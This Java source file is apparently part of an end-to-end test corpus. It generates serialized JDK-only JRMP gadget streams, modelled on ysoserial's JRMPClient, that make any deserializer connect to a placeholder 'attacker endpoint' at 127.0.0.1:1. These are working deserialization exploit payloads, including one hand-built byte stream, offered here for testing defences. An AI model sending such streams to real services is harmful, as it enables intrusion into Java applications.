package dev.pincer.e2e.corpus;

import dev.pincer.e2e.corpus.Serial.Block;
import dev.pincer.e2e.corpus.Serial.Desc;
import dev.pincer.e2e.corpus.Serial.Node;
import dev.pincer.e2e.corpus.Serial.Obj;
import dev.pincer.e2e.corpus.Serial.Raw;
import dev.pincer.e2e.corpus.Serial.Slot;
import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.io.UncheckedIOException;
import java.lang.reflect.Proxy;
import java.rmi.RemoteException;
import java.rmi.registry.LocateRegistry;
import java.rmi.registry.Registry;
import java.rmi.server.RemoteObject;
import java.rmi.server.RemoteObjectInvocationHandler;
import java.rmi.server.RemoteRef;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

/**
 * The JDK's own JRMP chain (ysoserial JRMPClient, marshalsec UnicastRefGadget): streams of JDK
 * classes only that make whoever deserializes them open a connection to the endpoint they name,
 * while the stream is being read ({@code RemoteObject.readObject} reads a {@code UnicastRef};
 * {@code LiveRef.read} registers it with the DGC client, whose "dirty" call connects). Built with
 * public API ({@code LocateRegistry.getRegistry} makes a client stub without any network traffic)
 * and written by the JDK's own {@code ObjectOutputStream}, except {@link #unicastRefAsObject()},
 * written by hand. Every stream names {@code 127.0.0.1:1} ({@code Corpus.ATTACKER_ENDPOINT}), which
 * the suites rewrite to a listener of their own.
 */
final class Jrmp {
    private Jrmp() {
    }

    static final String HOST = "127.0.0.1";
    static final int PORT = 1;

    /** A client stub for a registry at 127.0.0.1:1 (a {@code RegistryImpl_Stub}; nothing is sent). */
    static Registry registryStub() {
        try {
            return LocateRegistry.getRegistry(HOST, PORT);
        } catch (RemoteException e) {
            throw new IllegalStateException(e);
        }
    }

    static RemoteRef ref() {
        return ((RemoteObject) registryStub()).getRef();
    }

    /** ysoserial JRMPClient: a {@code Registry} proxy whose handler holds the {@code UnicastRef}. */
    static Object registryProxy() {
        return proxy(Registry.class);
    }

    static Object proxy(Class<?> iface) {
        return Proxy.newProxyInstance(Jrmp.class.getClassLoader(), new Class<?>[] {iface},
                new RemoteObjectInvocationHandler(ref()));
    }

    /** An object graph as the JDK serializes it, as a node (the 4-byte stream header left off). */
    static Node jdk(Object o) {
        ByteArrayOutputStream b = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(b)) {
            out.writeObject(o);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        byte[] all = b.toByteArray();
        return new Raw(java.util.Arrays.copyOfRange(all, 4, all.length));
    }

    static List<DeserCorpus.Stream> streams() {
        Map<String, Object> map = new HashMap<>();
        map.put("session", registryProxy());
        List<Object> list = new ArrayList<>(List.of("a", registryStub()));
        return List.of(
                new DeserCorpus.Stream("JRMP (JDK only): ysoserial JRMPClient, a Registry proxy over RemoteObjectInvocationHandler(UnicastRef)",
                        jdk(registryProxy())),
                new DeserCorpus.Stream("JRMP (JDK only): RemoteObjectInvocationHandler(UnicastRef) alone",
                        jdk(new RemoteObjectInvocationHandler(ref()))),
                new DeserCorpus.Stream("JRMP (JDK only): a Comparable proxy over RemoteObjectInvocationHandler",
                        jdk(proxy(Comparable.class))),
                new DeserCorpus.Stream("JRMP (JDK only): a registry client stub, sun.rmi.registry.RegistryImpl_Stub",
                        jdk(registryStub())),
                new DeserCorpus.Stream("JRMP (JDK only): a HashMap whose value is the Registry proxy", jdk(map)),
                new DeserCorpus.Stream("JRMP (JDK only): an ArrayList holding the registry stub", jdk(list)),
                new DeserCorpus.Stream("JRMP (JDK only): the handler's UnicastRef written as an object (empty ref class name)",
                        unicastRefAsObject()));
    }

    /**
     * {@code RemoteObjectInvocationHandler} whose {@code RemoteObject.writeObject} data names no ref
     * class ({@code writeUTF("")}) and then holds {@code sun.rmi.server.UnicastRef} as an
     * externalizable object: the form {@code RemoteObject.readObject} reads with
     * {@code in.readObject()}, so the stream names {@code UnicastRef} as a class.
     */
    static Node unicastRefAsObject() {
        Desc unicastRef = new Desc("sun.rmi.server.UnicastRef", 8258372400816541186L, 0x04 | 0x08, List.of(), null);
        ByteArrayOutputStream ext = new ByteArrayOutputStream();
        try (DataOutputStream out = new DataOutputStream(ext)) {
            out.writeUTF(HOST);
            out.writeInt(PORT);
            out.writeLong(0);       // ObjID objNum: the registry
            out.writeInt(0);        // UID unique
            out.writeLong(0);       // UID time
            out.writeShort(0);      // UID count
            out.writeBoolean(false); // not a result stream
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        Obj ref = new Obj(unicastRef, List.of(new Slot(List.of(), List.of(new Block(ext.toByteArray())))));
        Desc remoteObject = new Desc("java.rmi.server.RemoteObject", -3215090123894869218L,
                Serial.SC_SERIALIZABLE | Serial.SC_WRITE_METHOD, List.of(), null);
        Desc handler = new Desc("java.rmi.server.RemoteObjectInvocationHandler", 2L, Serial.SC_SERIALIZABLE, List.of(),
                remoteObject);
        return new Obj(handler, List.of(new Slot(List.of(), List.of(new Block(new byte[] {0, 0}), ref)),
                new Slot(List.of(), null)));
    }
}
